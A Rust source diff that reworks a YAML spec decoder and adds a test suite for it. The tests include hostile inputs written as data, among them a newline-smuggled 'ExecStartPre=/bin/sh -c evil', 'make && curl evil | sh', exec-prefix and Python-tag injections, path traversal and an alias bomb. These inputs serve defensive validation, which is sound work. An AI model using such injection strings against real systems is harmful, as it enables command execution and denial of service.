@@ -51,12 +51,20 @@ pub fn decode(text: &str) -> Result<(RawSpec, Vec<Diagnostic>), Vec<Diagnostic>>
     if !text_problems.is_empty() {
         return Err(text_problems);
     }
-    let root = parse_tree(text).map_err(|d| vec![d])?;
-    let (styles, tag_problems) = scalar_styles(text);
-    if !tag_problems.is_empty() {
-        return Err(tag_problems);
+    // The event pass runs first so every explicit tag is reported where it is written; it
+    // does not expand aliases, so it is linear in the (size-capped) text.
+    let facts = event_facts(text);
+    if !facts.tags.is_empty() {
+        return Err(facts.tags);
     }
-    let root = Node::from_spanned(root, text, &styles);
+    let root = parse_tree(text).map_err(|e| {
+        let mut d = yaml_error(&e);
+        if let (Some(line), Some(column)) = (d.line, d.column) {
+            d.path = facts.path_at(line, column);
+        }
+        vec![d]
+    })?;
+    let root = Node::from_spanned(root, text, &facts.styles);
     if matches!(root.value, Value::Null) {
         return Err(vec![
             Diagnostic::at(root.line, root.column, "", "the spec is empty")
@@ -230,6 +238,7 @@ fn options() -> serde_saphyr::Options {
             max_aliases: MAX_ALIASES,
             max_anchors: MAX_ALIASES,
             max_depth: MAX_DEPTH,
+            flow_nesting_limit: MAX_DEPTH,
             max_documents: 1,
             max_nodes: 50_000,
             max_total_scalar_bytes: 1 << 20,
@@ -329,10 +338,9 @@ impl<'de> Deserialize<'de> for RawNode {
     }
 }
 
-/// Parses the text into a located tree, mapping serde-saphyr's errors to diagnostics.
-fn parse_tree(text: &str) -> Result<Spanned<RawNode>, Diagnostic> {
+/// Parses the text into a located tree.
+fn parse_tree(text: &str) -> Result<Spanned<RawNode>, YamlError> {
     serde_saphyr::from_str_with_options::<Spanned<RawNode>>(text, options())
-        .map_err(|e| yaml_error(&e))
 }
 
 /// A diagnostic for a serde-saphyr error: its location and a message naming the limit or rule.
@@ -390,7 +398,7 @@ fn yaml_error_text(e: &YamlError) -> (String, &'static str) {
             ),
             BudgetBreach::Depth { .. } => (
                 format!("nesting deeper than {MAX_DEPTH} levels"),
-                "a spec is at most a few levels deep; check the indentation",
+                "a spec is at most a few levels deep; check the brackets and indentation",
             ),
             BudgetBreach::Documents { .. } => (
                 "more than one YAML document (`---`)".into(),
@@ -407,6 +415,14 @@ fn yaml_error_text(e: &YamlError) -> (String, &'static str) {
         },
         other => {
             let text = other.to_string();
+            // The parser's own nesting guard (flow collections) surfaces as a parser error
+            // whose text is its only distinguishing mark.
+            if text.starts_with("recursion limit exceeded") {
+                return (
+                    format!("nesting deeper than {MAX_DEPTH} levels"),
+                    "a spec is at most a few levels deep; check the brackets and indentation",
+                );
+            }
             let message = match text.find(" at line ") {
                 Some(i) => &text[..i],
                 None => text.as_str(),
@@ -432,44 +448,137 @@ enum Style {
     Quoted,
 }
 
-/// Scalar styles keyed by (1-based line, 1-based column) of the scalar, and one diagnostic per
-/// explicit tag (`!!str`, `!!int`, `!foo`: none are allowed).
-fn scalar_styles(text: &str) -> (BTreeMap<(usize, usize), Style>, Vec<Diagnostic>) {
-    let mut styles = BTreeMap::new();
-    let mut tags = Vec::new();
+/// What one pass over the parser's events tells the decoder.
+#[derive(Debug, Default)]
+struct EventFacts {
+    /// Scalar styles keyed by (1-based line, 1-based column) of the scalar.
+    styles: BTreeMap<(usize, usize), Style>,
+    /// The key path of every node, keyed by its (1-based line, 1-based column): names the key
+    /// in errors that serde-saphyr reports by position only.
+    paths: BTreeMap<(usize, usize), String>,
+    /// One diagnostic per explicit tag (`!!str`, `!!int`, `!foo`: none are allowed).
+    tags: Vec<Diagnostic>,
+}
+
+impl EventFacts {
+    /// The key path of the last node that starts on `line` at or before `column`; empty when
+    /// no node starts there (e.g. a `---` line).
+    fn path_at(&self, line: usize, column: usize) -> String {
+        self.paths
+            .range((line, 0)..=(line, column))
+            .next_back()
+            .map(|(_, p)| p.clone())
+            .unwrap_or_default()
+    }
+}
+
+/// An open collection while walking events.
+struct Frame {
+    path: String,
+    /// For a mapping: the key whose value comes next (`None`: a key comes next).
+    /// For a sequence: unused.
+    key: Option<String>,
+    /// For a sequence: the index of the next item.
+    index: Option<usize>,
+    /// Whether this collection is itself a mapping key.
+    is_key: bool,
+}
+
+/// The path of the node that comes next, and whether it is a mapping key.
+fn next_path(stack: &[Frame], scalar: &str) -> (String, bool) {
+    match stack.last() {
+        None => (String::new(), false),
+        Some(Frame {
+            path,
+            index: Some(i),
+            ..
+        }) => (format!("{path}[{i}]"), false),
+        Some(Frame {
+            path, key: None, ..
+        }) => (child(path, scalar), true),
+        Some(Frame {
+            path, key: Some(k), ..
+        }) => (child(path, k), false),
+    }
+}
+
+/// Moves the innermost collection past a finished node.
+fn finish_node(stack: &mut [Frame], text: &str, was_key: bool) {
+    if let Some(top) = stack.last_mut() {
+        match &mut top.index {
+            Some(i) => *i += 1,
+            None => top.key = was_key.then(|| text.to_owned()),
+        }
+    }
+}
+
+/// Walks the parser's events once: scalar styles, node paths, tags.
+fn event_facts(text: &str) -> EventFacts {
+    let mut facts = EventFacts::default();
+    let mut stack: Vec<Frame> = Vec::new();
     for event in Parser::new_from_str(text) {
-        // serde-saphyr already accepted this text, so the parser does not fail here; stop
-        // quietly if it does.
+        // On a syntax error stop quietly: serde-saphyr reports it next, with its message.
         let Ok((event, span)) = event else { break };
-        let tag = match &event {
-            Event::Scalar(_, style, _, tag) => {
+        let at = (span.start.line(), span.start.col() + 1);
+        let (tag, path) = match &event {
+            Event::Scalar(value, style, _, tag) => {
                 let style = if matches!(style, ScalarStyle::Plain) {
                     Style::Plain
                 } else {
                     Style::Quoted
                 };
-                styles.insert((span.start.line(), span.start.col() + 1), style);
-                tag.as_ref().map(ToString::to_string)
+                facts.styles.insert(at, style);
+                let (path, is_key) = next_path(&stack, value);
+                finish_node(&mut stack, value, is_key);
+                (tag.as_ref().map(ToString::to_string), path)
+            }
+            Event::Alias(_) => {
+                let (path, is_key) = next_path(&stack, "*");
+                finish_node(&mut stack, "*", is_key);
+                (None, path)
             }
             Event::SequenceStart(_, _, tag) | Event::MappingStart(_, _, tag) => {
-                tag.as_ref().map(ToString::to_string)
+                let (path, is_key) = next_path(&stack, "?");
+                let is_seq = matches!(event, Event::SequenceStart(..));
+                stack.push(Frame {
+                    path: path.clone(),
+                    key: None,
+                    index: is_seq.then_some(0),
+                    is_key,
+                });
+                (tag.as_ref().map(ToString::to_string), path)
             }
-            _ => None,
+            Event::SequenceEnd | Event::MappingEnd => {
+                if let Some(done) = stack.pop() {
+                    finish_node(&mut stack, "?", done.is_key);
+                }
+                continue;
+            }
+            _ => continue,
         };
-        if let Some(tag) = tag {
-            let at = span.tag_start.unwrap_or(span.start);
-            tags.push(
+        // The innermost node at a position wins (a block mapping starts where its first key does).
+        facts.paths.insert(at, path.clone());
+        if let Some(resolved) = tag {
+            let tag_at = span.tag_start.unwrap_or(span.start);
+            // Name the tag as written (`!!str`), not as resolved (`tag:yaml.org,2002:str`).
+            let tag = tag_at
+                .byte_offset()
+                .and_then(|o| text.get(o..))
+                .and_then(|rest| rest.split(|c: char| c.is_whitespace() || c == ',').next())
+                .filter(|t| t.starts_with('!'))
+                .map_or(resolved, str::to_owned);
+            facts.tags.push(
                 Diagnostic::at(
-                    at.line(),
-                    at.col() + 1,
-                    "",
+                    tag_at.line(),
+                    tag_at.col() + 1,
+                    &path,
                     format!("YAML tags are not allowed (`{tag}`)"),
                 )
                 .hint("remove the tag; quote the value if it is a string"),
             );
         }
     }
-    (styles, tags)
+    facts
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -1053,13 +1162,14 @@ impl Decoder {
             );
             return None;
         };
-        // Items with a problem are reported and left out; the rest are still validated.
         let values: Vec<Located<String>> = items
             .iter()
             .enumerate()
             .filter_map(|(i, item)| self.string(item, &format!("{path}[{i}]"), StrKind::Line))
             .collect();
-        Some(node.located(&path, values))
+        // Items with a problem are reported and left out. If none is left, the list is absent
+        // rather than empty, so no "list is empty" error follows the real one.
+        (values.len() == items.len() || !values.is_empty()).then(|| node.located(&path, values))
     }
 
     fn number_list(
@@ -1081,7 +1191,9 @@ impl Decoder {
             .enumerate()
             .filter_map(|(i, item)| self.number(item, &format!("{path}[{i}]"), false))
             .collect();
-        Some(node.located(&path, values))
+        // Items with a problem are reported and left out. If none is left, the list is absent
+        // rather than empty, so no "list is empty" error follows the real one.
+        (values.len() == items.len() || !values.is_empty()).then(|| node.located(&path, values))
     }
 
     fn pos(node: &Node, path: &str) -> Pos {
@@ -1250,5 +1362,967 @@ impl Decoder {
             persistent: self.bool_field(&f, "persistent"),
             randomized_delay: self.string_field(&f, "randomized_delay", false, StrKind::Duration),
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Diagnostic, Image, MAX_SPEC_BYTES, Spec, SpecContext, SpecError, parse};
+    use super::*;
+
+    const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+
+    /// A valid spec; tests replace one line or append lines (from line 13 on).
+    fn base() -> String {
+        format!(
+            "tenant: acme
+repo:
+  path: /home/u/proj
+  base: main
+task:
+  text: do it
+agent:
+  image: ghcr.io/acme/agent@sha256:{DIGEST}
+  command: [agent, --run]
+gate:
+  image: ghcr.io/acme/gate@sha256:{DIGEST}
+  command: [make, test]
+"
+        )
+    }
+
+    fn ctx() -> SpecContext {
+        SpecContext {
+            file: "t.yaml".into(),
+            home: "/home/u".into(),
+            runtime_dir: "/run/user/1000".into(),
+        }
+    }
+
+    /// `base()` with the first occurrence of `old` replaced by `new`.
+    fn with(old: &str, new: &str) -> String {
+        let b = base();
+        assert!(b.contains(old), "base has no `{old}`");
+        b.replacen(old, new, 1)
+    }
+
+    /// `base()` plus extra lines (the first extra line is line 13).
+    fn plus(extra: &str) -> String {
+        format!("{}{extra}", base())
+    }
+
+    fn ok(text: &str) -> Spec {
+        match parse(text, &ctx()) {
+            Ok(s) => s,
+            Err(e) => panic!("expected a valid spec, got:\n{e}"),
+        }
+    }
+
+    fn err(text: &str) -> SpecError {
+        parse(text, &ctx()).expect_err("spec must be rejected")
+    }
+
+    /// The only diagnostic, as `(line, column, path, message)`.
+    fn one(text: &str) -> (usize, usize, String, String) {
+        let e = err(text);
+        assert_eq!(e.diagnostics.len(), 1, "expected one diagnostic, got:\n{e}");
+        let d = &e.diagnostics[0];
+        (
+            d.line.unwrap_or(0),
+            d.column.unwrap_or(0),
+            d.path.clone(),
+            d.message.clone(),
+        )
+    }
+
+    fn d(line: usize, column: usize, path: &str, message: &str) -> (usize, usize, String, String) {
+        (line, column, path.to_owned(), message.to_owned())
+    }
+
+    #[test]
+    fn base_spec_is_valid_and_defaults_apply() {
+        let s = ok(&base());
+        assert_eq!(s.tenant, "acme");
+        assert_eq!(s.agent.timeout_s, 1800);
+        assert_eq!(s.gate.timeout_s, 600);
+        assert_eq!(s.egress.ports, vec![443]);
+        assert!(s.egress.allow.is_empty());
+        assert_eq!(s.tier, crate::tier::Tier::Container);
+        assert!(s.schedule.is_none());
+        assert!(matches!(s.agent.image, Image::Pinned { .. }));
+    }
+
+    #[test]
+    fn fixtures_match_their_intent() {
+        let good = include_str!("../../tests/fixtures/spec/good.yaml");
+        let s = ok(good);
+        assert_eq!(s.egress.ports, vec![80, 443]);
+        assert_eq!(
+            s.egress.allow.len(),
+            2,
+            "pypi.org listed twice must be deduped"
+        );
+        ok(include_str!("../../tests/fixtures/spec/minimal.yaml"));
+        for bad in [
+            include_str!("../../tests/fixtures/spec/bad-types.yaml"),
+            include_str!("../../tests/fixtures/spec/bad-keys.yaml"),
+            include_str!("../../tests/fixtures/spec/bad-semantics.yaml"),
+            include_str!("../../tests/fixtures/spec/alias-bomb.yaml"),
+            include_str!("../../tests/fixtures/spec/crlf.yaml"),
+            include_str!("../../tests/fixtures/spec/tabs.yaml"),
+            include_str!("../../tests/fixtures/spec/bidi.yaml"),
+            include_str!("../../tests/fixtures/spec/tag.yaml"),
+        ] {
+            err(bad);
+        }
+    }
+
+    #[test]
+    fn display_format_is_file_line_col_path_message_then_fix() {
+        let e = err(&with("tenant: acme", "tenant: no"));
+        assert_eq!(
+            e.to_string(),
+            "t.yaml:1:9: tenant: expected a string, found boolean `no` (YAML 1.1 would read it as false)\n  fix: quote it: \"no\""
+        );
+        let doc = SpecError {
+            file: "f".into(),
+            diagnostics: vec![
+                Diagnostic {
+                    line: None,
+                    column: None,
+                    path: String::new(),
+                    message: "m1".into(),
+                    hint: None,
+                },
+                Diagnostic::at(2, 3, "a.b", "m2"),
+            ],
+        };
+        assert_eq!(doc.to_string(), "f: m1\nf:2:3: a.b: m2");
+    }
+
+    // --- §4 "Newline in any value" ---
+
+    #[test]
+    fn control_characters_in_values_are_rejected() {
+        let cases = [
+            (
+                with(
+                    "tenant: acme",
+                    r#"tenant: "t1\nExecStartPre=/bin/sh -c evil""#,
+                ),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "the value contains U+000A (line feed) at character 3",
+                ),
+            ),
+            (
+                with("[agent, --run]", r#"[agent, "a\tb"]"#),
+                d(
+                    9,
+                    19,
+                    "agent.command[1]",
+                    "the value contains U+0009 (tab) at character 2",
+                ),
+            ),
+            (
+                with("[agent, --run]", r#"[agent, "a\0b"]"#),
+                d(
+                    9,
+                    19,
+                    "agent.command[1]",
+                    "the value contains U+0000 (null) at character 2",
+                ),
+            ),
+            (
+                with("[agent, --run]", r#"[agent, "a\rb"]"#),
+                d(
+                    9,
+                    19,
+                    "agent.command[1]",
+                    "the value contains U+000D (carriage return) at character 2",
+                ),
+            ),
+            (
+                with("[agent, --run]", r#"[agent, "a\u0085b"]"#),
+                d(
+                    9,
+                    19,
+                    "agent.command[1]",
+                    "the value contains U+0085 at character 2",
+                ),
+            ),
+            (
+                with("[agent, --run]", r#"[agent, "a\u202Eb"]"#),
+                d(
+                    9,
+                    19,
+                    "agent.command[1]",
+                    "the value contains U+202E (right-to-left override) at character 2",
+                ),
+            ),
+            (
+                with("  base: main", "  base: |\n    main"),
+                d(
+                    5,
+                    5,
+                    "repo.base",
+                    "the value contains U+000A (line feed) at character 5",
+                ),
+            ),
+        ];
+        for (text, want) in cases {
+            let got = one(&text);
+            assert_eq!(got.0, want.0, "{text}");
+            assert_eq!((&got.2, &got.3), (&want.2, &want.3), "{text}");
+        }
+        // Multi-line task text is the one place a newline belongs.
+        let s = ok(&with(
+            "  text: do it",
+            "  text: |\n    line one\n    line two",
+        ));
+        assert_eq!(
+            s.task,
+            super::super::Task::Text("line one\nline two\n".into())
+        );
+    }
+
+    // --- §4 "Unit-name characters" ---
+
+    #[test]
+    fn tenant_names_outside_the_safe_alphabet_are_rejected() {
+        let long = "a".repeat(300);
+        let long_message =
+            format!("invalid tenant: name `{long}` is 300 characters long; the limit is 31");
+        let cases: [(&str, &str); 10] = [
+            (
+                "t/1",
+                "invalid tenant: name `t/1` contains `/`; only a-z, 0-9 and `-` are allowed",
+            ),
+            (
+                "../../x",
+                "invalid tenant: name `../../x` must start with a lowercase letter a-z",
+            ),
+            (
+                ".",
+                "invalid tenant: name `.` must start with a lowercase letter a-z",
+            ),
+            (
+                "-x",
+                "invalid tenant: name `-x` must start with a lowercase letter a-z",
+            ),
+            (
+                "x.service",
+                "invalid tenant: name `x.service` contains `.`; only a-z, 0-9 and `-` are allowed",
+            ),
+            (
+                "a@b@c",
+                "invalid tenant: name `a@b@c` contains `@`; only a-z, 0-9 and `-` are allowed",
+            ),
+            (
+                "a b",
+                "invalid tenant: name `a b` contains ` `; only a-z, 0-9 and `-` are allowed",
+            ),
+            (
+                "é",
+                "invalid tenant: name `é` must start with a lowercase letter a-z",
+            ),
+            (
+                "%h",
+                "invalid tenant: name `%h` must start with a lowercase letter a-z",
+            ),
+            (&long, &long_message),
+        ];
+        for (name, message) in cases {
+            let text = with("tenant: acme", &format!("tenant: \"{name}\""));
+            assert_eq!(one(&text), d(1, 9, "tenant", message), "{name}");
+        }
+    }
+
+    // --- §4 "% specifiers", "$ expansion", "Command separator", "Quoting and escapes":
+    // argv words are data; the loader keeps them exactly, the renderer escapes them. ---
+
+    #[test]
+    fn argv_words_are_kept_verbatim_for_the_renderer_to_escape() {
+        let text = with(
+            "[agent, --run]",
+            r#"[agent, "%h/.ssh", "50%", "$HOME", "${SSH_AUTH_SOCK}", ";", "a\"b", "'x'", "\\x41", "\\", "\\."]"#,
+        );
+        let s = ok(&text);
+        assert_eq!(
+            s.agent.command,
+            vec![
+                "agent",
+                "%h/.ssh",
+                "50%",
+                "$HOME",
+                "${SSH_AUTH_SOCK}",
+                ";",
+                "a\"b",
+                "'x'",
+                "\\x41",
+                "\\",
+                "\\."
+            ]
+        );
+    }
+
+    // --- §4 "Exec prefix smuggling" and "Shell injection" ---
+
+    #[test]
+    fn program_names_with_exec_prefixes_or_shell_strings_are_rejected() {
+        for (first, message) in [
+            (
+                "\"+/bin/sh\"",
+                "the program name `+/bin/sh` starts with `+`",
+            ),
+            (
+                "\"!/bin/sh\"",
+                "the program name `!/bin/sh` starts with `!`",
+            ),
+            ("-x", "the program name `-x` starts with `-`"),
+            (
+                "\"@/bin/sh\"",
+                "the program name `@/bin/sh` starts with `@`",
+            ),
+            (
+                "\"|/bin/sh\"",
+                "the program name `|/bin/sh` starts with `|`",
+            ),
+            ("\";\"", "the program name `;` starts with `;`"),
+            (
+                "\"make && curl evil | sh\"",
+                "the program name `make && curl evil | sh` contains whitespace",
+            ),
+            ("\"\"", "the program name (first word) is empty"),
+        ] {
+            let text = with("[make, test]", &format!("[{first}, x]"));
+            assert_eq!(one(&text), d(12, 13, "gate.command[0]", message), "{first}");
+        }
+        let text = with("[make, test]", "\"make && curl evil | sh\"");
+        assert_eq!(
+            one(&text),
+            d(
+                12,
+                12,
+                "gate.command",
+                "expected a list, found string \"make && curl evil | sh\""
+            )
+        );
+        assert_eq!(
+            one(&with("[make, test]", "[]")),
+            d(12, 12, "gate.command", "`command` is empty")
+        );
+    }
+
+    // --- §4 "Huge or hostile file" ---
+
+    #[test]
+    fn oversized_text_is_rejected_before_parsing() {
+        let big = format!(
+            "{}# {}\n",
+            base(),
+            "x".repeat(usize::try_from(MAX_SPEC_BYTES).unwrap_or(0))
+        );
+        let e = err(&big);
+        assert_eq!(e.diagnostics.len(), 1);
+        assert_eq!(e.diagnostics[0].line, None);
+        assert!(
+            e.diagnostics[0].message.starts_with("file is ")
+                && e.diagnostics[0]
+                    .message
+                    .ends_with("larger than the limit of 262144 bytes"),
+            "{e}"
+        );
+    }
+
+    #[test]
+    fn billion_laughs_fails_fast_with_a_clear_error() {
+        let start = std::time::Instant::now();
+        let text = include_str!("../../tests/fixtures/spec/alias-bomb.yaml");
+        assert_eq!(
+            one(text),
+            d(
+                5,
+                8,
+                "e[0]",
+                "aliases expand to too many nodes (billion-laughs style input; limit 10000 replayed nodes)"
+            )
+        );
+        assert!(
+            start.elapsed() < std::time::Duration::from_secs(2),
+            "took {:?}",
+            start.elapsed()
+        );
+    }
+
+    #[test]
+    fn too_many_aliases_anchors_and_deep_nesting_are_rejected() {
+        let aliases = format!("{}x: &a v\ny: [{}]\n", base(), vec!["*a"; 101].join(", "));
+        assert_eq!(one(&aliases).3, "more than 100 aliases");
+        let anchors: String = (0..101).map(|i| format!("k{i}: &a{i} v\n")).collect();
+        assert_eq!(one(&anchors).3, "more than 100 anchors");
+        let deep = format!("tenant: {}{}\n", "[".repeat(10_000), "]".repeat(10_000));
+        let (line, _, path, message) = one(&deep);
+        assert_eq!(
+            (line, path.as_str(), message.as_str()),
+            (1, "tenant", "nesting deeper than 32 levels")
+        );
+        let two_docs = format!("{}---\ntenant: b\n", base());
+        assert_eq!(
+            one(&two_docs),
+            d(13, 1, "", "more than one YAML document (`---`)")
+        );
+    }
+
+    #[test]
+    fn yaml_tags_are_rejected() {
+        assert_eq!(
+            one(&with(
+                "tenant: acme",
+                "tenant: !!python/object:os.system acme"
+            )),
+            d(
+                1,
+                9,
+                "tenant",
+                "YAML tags are not allowed (`!!python/object:os.system`)"
+            )
+        );
+        assert_eq!(
+            one(&with("tenant: acme", "tenant: !!str acme")),
+            d(1, 9, "tenant", "YAML tags are not allowed (`!!str`)")
+        );
+        assert_eq!(
+            one(&with("  base: main", "  base: !custom main")),
+            d(4, 9, "repo.base", "YAML tags are not allowed (`!custom`)")
+        );
+    }
+
+    #[test]
+    fn merge_keys_are_rejected() {
+        let text = plus("defaults: &d {timeout: 5m}\nextra:\n  <<: *d\n");
+        assert_eq!(
+            one(&text),
+            d(15, 3, "extra.<<", "merge keys (`<<`) are not allowed")
+        );
+    }
+
+    // --- §4 "Duplicate keys" ---
+
+    #[test]
+    fn duplicate_keys_name_both_lines() {
+        assert_eq!(
+            one(&plus("tenant: other\n")),
+            d(
+                13,
+                1,
+                "tenant",
+                "duplicate key `tenant` (first defined at line 1)"
+            )
+        );
+        assert_eq!(
+            one(&plus("\"tenant\": other\n")),
+            d(
+                13,
+                1,
+                "tenant",
+                "duplicate key `tenant` (first defined at line 1)"
+            )
+        );
+        assert_eq!(
+            one(&with("  base: main", "  base: main\n  base: dev")),
+            d(
+                5,
+                3,
+                "repo.base",
+                "duplicate key `base` (first defined at line 4)"
+            )
+        );
+    }
+
+    // --- §4 "Unknown keys / typos" ---
+
+    #[test]
+    fn unknown_keys_name_the_path_and_the_nearest_key() {
+        let cases = [
+            (
+                plus("egres:\n  allow: []\n"),
+                d(13, 1, "egres", "unknown key `egres`"),
+                "did you mean `egress`?",
+            ),
+            (
+                plus("netwrok: open\n"),
+                d(13, 1, "netwrok", "unknown key `netwrok`"),
+                "valid keys here: tenant, repo, tier, worktree_isolation, task, agent, gate, egress, mounts, services, schedule",
+            ),
+            (
+                with(
+                    "  command: [agent, --run]",
+                    "  command: [agent, --run]\n  cap_add: [ALL]",
+                ),
+                d(10, 3, "agent.cap_add", "unknown key `cap_add`"),
+                "valid keys here: image, unpinned_local_image, command, env, timeout, resources",
+            ),
+            (
+                with("  command: [agent, --run]", "  comand: [agent]"),
+                d(9, 3, "agent.comand", "unknown key `comand`"),
+                "did you mean `command`?",
+            ),
+            (
+                plus("schedule:\n  oncalendar: daily\n"),
+                d(14, 3, "schedule.oncalendar", "unknown key `oncalendar`"),
+                "did you mean `on_calendar`?",
+            ),
+        ];
+        for (text, want, hint) in cases {
+            let e = err(&text);
+            let first = e
+                .diagnostics
+                .iter()
+                .find(|x| x.message.starts_with("unknown key"))
+                .expect("unknown key reported");
+            assert_eq!(
+                (
+                    first.line.unwrap_or(0),
+                    first.column.unwrap_or(0),
+                    first.path.clone(),
+                    first.message.clone()
+                ),
+                want
+            );
+            assert_eq!(first.hint.as_deref(), Some(hint));
+        }
+    }
+
+    #[test]
+    fn missing_required_keys_are_reported_at_the_parent() {
+        let e = err(&with("  base: main\n", ""));
+        assert_eq!(e.diagnostics.len(), 1, "{e}");
+        let m = &e.diagnostics[0];
+        assert_eq!(
+            (m.line, m.path.as_str(), m.message.as_str()),
+            (Some(3), "repo.base", "missing required key `base`")
+        );
+        let messages: Vec<String> = err("tenant: acme\n")
+            .diagnostics
+            .into_iter()
+            .map(|d| format!("{}: {}", d.path, d.message))
+            .collect();
+        assert_eq!(
+            messages,
+            [
+                "repo: missing required key `repo`",
+                "task: missing required key `task`",
+                "agent: missing required key `agent`",
+                "gate: missing required key `gate`"
+            ]
+        );
+        assert_eq!(one(""), d(1, 1, "", "the spec is empty"));
+        assert_eq!(
+            one("- a\n"),
+            d(
+                1,
+                1,
+                "",
+                "expected a mapping (`key: value` lines), found a sequence"
+            )
+        );
+    }
+
+    // --- §4 "YAML 1.1 typing" ---
+
+    #[test]
+    fn implicit_yaml_types_in_string_fields_are_rejected() {
+        let cases = [
+            (
+                with("tenant: acme", "tenant: no"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found boolean `no` (YAML 1.1 would read it as false)",
+                ),
+                "quote it: \"no\"",
+            ),
+            (
+                with("tenant: acme", "tenant: yes"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found boolean `yes` (YAML 1.1 would read it as true)",
+                ),
+                "quote it: \"yes\"",
+            ),
+            (
+                with("tenant: acme", "tenant: y"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found boolean `y` (YAML 1.1 would read it as true)",
+                ),
+                "quote it: \"y\"",
+            ),
+            (
+                with("tenant: acme", "tenant: off"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found boolean `off` (YAML 1.1 would read it as false)",
+                ),
+                "quote it: \"off\"",
+            ),
+            (
+                with("tenant: acme", "tenant: true"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found boolean `true` (YAML would read it as true)",
+                ),
+                "quote it: \"true\"",
+            ),
+            (
+                with("tenant: acme", "tenant: ~"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found null `~` (YAML would read it as null (no value))",
+                ),
+                "quote it: \"~\"",
+            ),
+            (
+                with("tenant: acme", "tenant: null"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found null `null` (YAML would read it as null (no value))",
+                ),
+                "quote it: \"null\"",
+            ),
+            (
+                with("tenant: acme", "tenant:"),
+                d(1, 7, "tenant", "expected a string, found an empty value"),
+                "write a value, or remove the key",
+            ),
+            (
+                with("tenant: acme", "tenant: 1e3"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found float `1e3` (YAML would read it as 1000)",
+                ),
+                "quote it: \"1e3\"",
+            ),
+            (
+                with("tenant: acme", "tenant: .inf"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found float `.inf` (YAML would read it as infinity)",
+                ),
+                "quote it: \".inf\"",
+            ),
+            (
+                with("tenant: acme", "tenant: 0x1F"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found integer `0x1F` (YAML would read it as 31)",
+                ),
+                "quote it: \"0x1F\"",
+            ),
+            (
+                with("tenant: acme", "tenant: 1_000"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found integer `1_000` (YAML 1.1 would read it as 1000)",
+                ),
+                "quote it: \"1_000\"",
+            ),
+            (
+                with("tenant: acme", "tenant: 1:20"),
+                d(
+                    1,
+                    9,
+                    "tenant",
+                    "expected a string, found integer `1:20` (YAML 1.1 would read it as a base-60 number)",
+                ),
+                "quote it: \"1:20\"",
+            ),
+            (
+                with("  base: main", "  base: 0755"),
+                d(
+                    4,
+                    9,
+                    "repo.base",
+                    "expected a string, found integer `0755` (YAML 1.1 would read it as octal 493)",
+                ),
+                "quote it: \"0755\"",
+            ),
+            (
+                with("  base: main", "  base: 1234567"),
+                d(
+                    4,
+                    9,
+                    "repo.base",
+                    "expected a string, found integer `1234567` (YAML would read it as 1234567)",
+                ),
+                "quote it: \"1234567\"",
+            ),
+            (
+                plus("schedule:\n  on_calendar: 2024-01-01\n"),
+                d(
+                    14,
+                    16,
+                    "schedule.on_calendar",
+                    "expected a string, found date `2024-01-01` (YAML 1.1 would read it as a timestamp)",
+                ),
+                "quote it: \"2024-01-01\"",
+            ),
+            (
+                with("[agent, --run]", "[agent, 1]"),
+                d(
+                    9,
+                    20,
+                    "agent.command[1]",
+                    "expected a string, found integer `1` (YAML would read it as 1)",
+                ),
+                "quote it: \"1\"",
+            ),
+            (
+                plus("egress:\n  allow: [127.1]\n"),
+                d(
+                    14,
+                    11,
+                    "egress.allow[0]",
+                    "expected a string, found float `127.1` (YAML would read it as 127.1)",
+                ),
+                "quote it: \"127.1\"",
+            ),
+            (
+                with(
+                    "  command: [agent, --run]",
+                    "  command: [agent]\n  timeout: 90",
+                ),
+                d(
+                    10,
+                    12,
+                    "agent.timeout",
+                    "expected a string, found integer `90` (YAML would read it as 90)",
+                ),
+                "write a duration with a unit, e.g. `90s`, `30m` or `1h30m`",
+            ),
+            (
+                with(
+                    "  command: [agent, --run]",
+                    "  command: [agent]\n  resources: {memory: 512}",
+                ),
+                d(
+                    10,
+                    23,
+                    "agent.resources.memory",
+                    "expected a string, found integer `512` (YAML would read it as 512)",
+                ),
+                "write a size with a unit, e.g. `512M` or `2G`",
+            ),
+        ];
+        for (text, want, hint) in cases {
+            let e = err(&text);
+            assert_eq!(e.diagnostics.len(), 1, "{e}");
+            let got = &e.diagnostics[0];
+            assert_eq!(
+                (
+                    got.line.unwrap_or(0),
+                    got.column.unwrap_or(0),
+                    got.path.clone(),
+                    got.message.clone()
+                ),
+                want,
+                "{text}"
+            );
+            assert_eq!(got.hint.as_deref(), Some(hint));
+        }
+        // Quoted forms are plain strings.
+        let s = ok(&with("  base: main", "  base: \"0755\""));
+        assert_eq!(s.repo.base, "0755");
+        ok(&with("tenant: acme", "tenant: 'no'"));
+        ok(&plus("schedule:\n  on_calendar: \"2024-01-01\"\n"));
+    }
+
+    #[test]
+    fn booleans_are_only_true_and_false() {
+        for (value, message) in [
+            ("yes", "expected `true` or `false`, found `yes`"),
+            ("on", "expected `true` or `false`, found `on`"),
+            ("True", "expected `true` or `false`, found `True`"),
+            (
+                "\"true\"",
+                "expected `true` or `false`, found string \"true\"",
+            ),
+            ("1", "expected `true` or `false`, found integer `1`"),
+        ] {
+            assert_eq!(
+                one(&plus(&format!("worktree_isolation: {value}\n"))),
+                d(13, 21, "worktree_isolation", message),
+                "{value}"
+            );
+        }
+        assert!(ok(&plus("worktree_isolation: true\n")).legacy_worktree_isolation);
+        assert!(!ok(&plus("worktree_isolation: false\n")).legacy_worktree_isolation);
+    }
+
+    #[test]
+    fn numbers_are_plain_decimals() {
+        for (value, message) in [
+            ("\"443\"", "expected an integer, found string \"443\""),
+            ("0x1BB", "`0x1BB` is not written as a plain decimal number"),
+            ("0443", "`0443` is not written as a plain decimal number"),
+            ("4_43", "`4_43` is not written as a plain decimal number"),
